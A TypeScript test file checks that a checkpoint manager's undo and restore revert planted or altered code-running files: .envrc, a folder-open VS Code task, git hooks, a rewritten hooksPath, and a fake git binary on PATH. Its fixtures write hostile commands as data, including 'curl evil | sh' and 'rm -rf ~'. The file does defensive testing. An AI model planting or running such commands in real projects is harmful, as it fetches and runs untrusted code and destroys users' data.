// Files that run code later come back with /undo, whether the project ignores them (`.envrc`,
// `.vscode/tasks.json` in .gitignore) or git cannot stage them (`.git/hooks/*`, `.git/config`):
// a command that plants or changes one is undone with the rest, and one made after a checkpoint
// is removed by restoring it. Also: the checkpoints' git never comes from the project (PATH=.),
// and ignored files left out of a repository copy are named, never dropped silently.
import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { existsSync } from "node:fs";
import { chmod, mkdir, mkdtemp, readFile, rm, stat, truncate, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { codeRunningPaths } from "../src/checkpoints/code-running-copies.js";
import { createCheckpointManager } from "../src/checkpoints/index.js";

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), "attractor-code-running-"));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

const git = (cwd: string, ...args: string[]) => {
  const r = spawnSync("git", args, { cwd, encoding: "utf8" });
  if (r.status !== 0) throw new Error(`git ${args.join(" ")}: ${r.stderr}`);
  return r.stdout;
};

let n = 0;
/** A project with a commit, an ignored `.envrc` and `.vscode`, and one git hook. */
async function project() {
  const root = join(dir, `p${n++}`);
  await mkdir(join(root, "src"), { recursive: true });
  git(root, "init", "-q");
  await writeFile(join(root, ".gitignore"), ".envrc\n.vscode/\nbig/\n");
  await writeFile(join(root, "src", "a.ts"), "export const a = 1;\n");
  git(root, "add", ".");
  git(root, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "init");
  await writeFile(join(root, ".envrc"), "export A=1\n");
  await mkdir(join(root, ".vscode"));
  await writeFile(join(root, ".vscode", "settings.json"), "{}\n");
  await writeFile(join(root, ".git", "hooks", "pre-push"), "#!/bin/sh\nexit 0\n", { mode: 0o755 });
  const home = join(dir, `home${n}`);
  const manager = await createCheckpointManager({ projectRoot: root, home });
  return { root, manager };
}

const read = (p: string) => readFile(p, "utf8");

describe("code-running files and checkpoints", () => {
  it("an ignored .envrc changed and a .vscode/tasks.json planted by a command are undone", async () => {
    const { root, manager } = await project();
    await manager.snapshot({ label: "before the command" });
    await writeFile(join(root, ".envrc"), "curl evil | sh\n");
    await writeFile(join(root, ".vscode", "tasks.json"), '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}');
    const result = await manager.undo();
    expect(result).toBeDefined();
    expect(await read(join(root, ".envrc"))).toBe("export A=1\n");
    expect(existsSync(join(root, ".vscode", "tasks.json"))).toBe(false);
    expect(await read(join(root, ".vscode", "settings.json"))).toBe("{}\n");
  });

  it("an empty folder where a code-running file would be (a sandbox's placeholder) is never named for staging", async () => {
    const { root, manager } = await project();
    // A placeholder may vanish between the listing and `git add`, which then fails on a path that
    // matches nothing: empty folders hold nothing to stage, so they are never listed.
    for (const name of [".mise.toml", ".tool-versions", ".mcp.json"]) await mkdir(join(root, name));
    expect(codeRunningPaths(root).sort()).toEqual([".envrc", ".vscode"]);
    await writeFile(join(root, "src", "a.ts"), "changed\n");
    await expect(manager.snapshot({ label: "with placeholders" })).resolves.toBeDefined();
    await rm(join(root, ".mise.toml"), { recursive: true });
    await writeFile(join(root, "src", "a.ts"), "changed again\n");
    await expect(manager.snapshot({ label: "one gone" })).resolves.toBeDefined();
    await manager.undo();
    expect(await read(join(root, "src", "a.ts"))).toBe("changed\n");
  });

  it("an ignored .envrc created after the checkpoint is removed by undo and by restore", async () => {
    const { root, manager } = await project();
    await rm(join(root, ".envrc"));
    const before = await manager.snapshot({ label: "no .envrc" });
    await writeFile(join(root, ".envrc"), "curl evil | sh\n");
    await writeFile(join(root, "src", "a.ts"), "changed\n");
    await manager.undo();
    expect(existsSync(join(root, ".envrc"))).toBe(false);
    expect(await read(join(root, "src", "a.ts"))).toBe("export const a = 1;\n");
    await writeFile(join(root, ".envrc"), "again\n");
    await manager.restore(before.id);
    expect(existsSync(join(root, ".envrc"))).toBe(false);
  });

  it("a git hook planted or changed by a command is removed or put back, though the tree is unchanged", async () => {
    const { root, manager } = await project();
    await manager.snapshot({ label: "before" });
    await writeFile(join(root, ".git", "hooks", "pre-commit"), "#!/bin/sh\ncurl evil | sh\n", {
      mode: 0o755,
    });
    await writeFile(join(root, ".git", "hooks", "pre-push"), "#!/bin/sh\nrm -rf ~\n");
    await chmod(join(root, ".git", "hooks", "pre-push"), 0o644);
    const config = await read(join(root, ".git", "config"));
    await writeFile(join(root, ".git", "config"), `${config}[core]\n\thooksPath = /tmp/evil\n`);
    const result = await manager.undo();
    expect(result).toBeDefined();
    expect(existsSync(join(root, ".git", "hooks", "pre-commit"))).toBe(false);
    expect(await read(join(root, ".git", "hooks", "pre-push"))).toBe("#!/bin/sh\nexit 0\n");
    expect((await stat(join(root, ".git", "hooks", "pre-push"))).mode & 0o777).toBe(0o755);
    expect(await read(join(root, ".git", "config"))).toBe(config);
    // The project's repository still works.
    expect(git(root, "log", "--format=%s")).toBe("init\n");
  });

  it("a hook rewritten with other content of the same size is recorded anew, just written or long settled", async () => {
    const { root, manager } = await project();
    const hook = join(root, ".git", "hooks", "pre-push");
    const sha = (text: string) => createHash("sha256").update(text).digest("hex");
    const recorded = async (label: string) =>
      (await manager.snapshot({ label })).gitFiles?.[".git/hooks/pre-push"]?.split(":")[0];
    // Just written, so read within the same tick of the file system's clock as its last change.
    await writeFile(hook, "#!/bin/sh\nexit 1\n");
    expect(await recorded("one")).toBe(sha("#!/bin/sh\nexit 1\n"));
    await writeFile(hook, "#!/bin/sh\nexit 2\n");
    expect(await recorded("two")).toBe(sha("#!/bin/sh\nexit 2\n"));
    // Settled: read long after its last change, when its stat data may stand for its content;
    // then changed to other text of the same size.
    await new Promise((r) => setTimeout(r, 2_300));
    expect(await recorded("settled")).toBe(sha("#!/bin/sh\nexit 2\n"));
    expect(await recorded("settled again")).toBe(sha("#!/bin/sh\nexit 2\n"));
    await writeFile(hook, "#!/bin/sh\nexit 3\n");
    expect(await recorded("three")).toBe(sha("#!/bin/sh\nexit 3\n"));
    // A committed checkpoint's manifest names copies that are in the store.
    expect(await read(join(`${manager.gitDir}.code-running`, sha("#!/bin/sh\nexit 3\n")))).toBe(
      "#!/bin/sh\nexit 3\n",
    );
    // And undo puts back the hook as it was before that change.
    await writeFile(hook, "#!/bin/sh\nexit 4\n");
    await manager.undo();
    expect(await read(hook)).toBe("#!/bin/sh\nexit 3\n");
  });

  it("an edit tool's write to an ignored .envrc is undone (the recorded prior state is kept)", async () => {
    const { root, manager } = await project();
    const { committed } = await manager.snapshotFiles(
      { label: "write .envrc" },
      [join(root, ".envrc")],
      "c1",
    );
    await writeFile(join(root, ".envrc"), "curl evil | sh\n");
    manager.changeMade("c1");
    await committed;
    await manager.undo();
    expect(await read(join(root, ".envrc"))).toBe("export A=1\n");
    const { committed: again } = await manager.snapshotFiles(
      { label: "new hook" },
      [join(root, "src/a.ts")],
      "c2",
    );
    await writeFile(join(root, ".git", "hooks", "post-checkout"), "#!/bin/sh\nevil\n", { mode: 0o755 });
    manager.changeMade("c2");
    await again;
    await manager.undo();
    expect(existsSync(join(root, ".git", "hooks", "post-checkout"))).toBe(false);
  });

  it("the checkpoints' git is never the project's own, even with . in PATH", async () => {
    const { root, manager } = await project();
    const marker = join(dir, "planted-git-ran");
    await writeFile(join(root, "git"), `#!/bin/sh\ntouch '${marker}'\nexit 1\n`, { mode: 0o755 });
    const saved = process.env.PATH;
    process.env.PATH = `.:${saved}`;
    try {
      await manager.snapshot({ label: "with . first in PATH" });
      await writeFile(join(root, "src", "a.ts"), "changed\n");
      await manager.undo();
    } finally {
      process.env.PATH = saved;
    }
    expect(existsSync(marker)).toBe(false);
    expect(await read(join(root, "src", "a.ts"))).toBe("export const a = 1;\n");
  });

  it("ignored files over the copy's budget are named in the checkpoint and in undo's result", async () => {
    const { root, manager } = await project();
    await mkdir(join(root, "big"));
    await writeFile(join(root, "big", "blob.bin"), "");
    await truncate(join(root, "big", "blob.bin"), 65 * 1024 * 1024); // sparse: no disk used
    const checkpoint = await manager.snapshot({ label: "opaque line", withRepository: true });
    expect(checkpoint.notices).toEqual(["ignored files not kept: over 64 MB (big)"]);
    await writeFile(join(root, "src", "a.ts"), "changed\n");
    const result = await manager.undo();
    expect(result?.notices).toEqual(["ignored files not kept: over 64 MB (big)"]);
  });
});
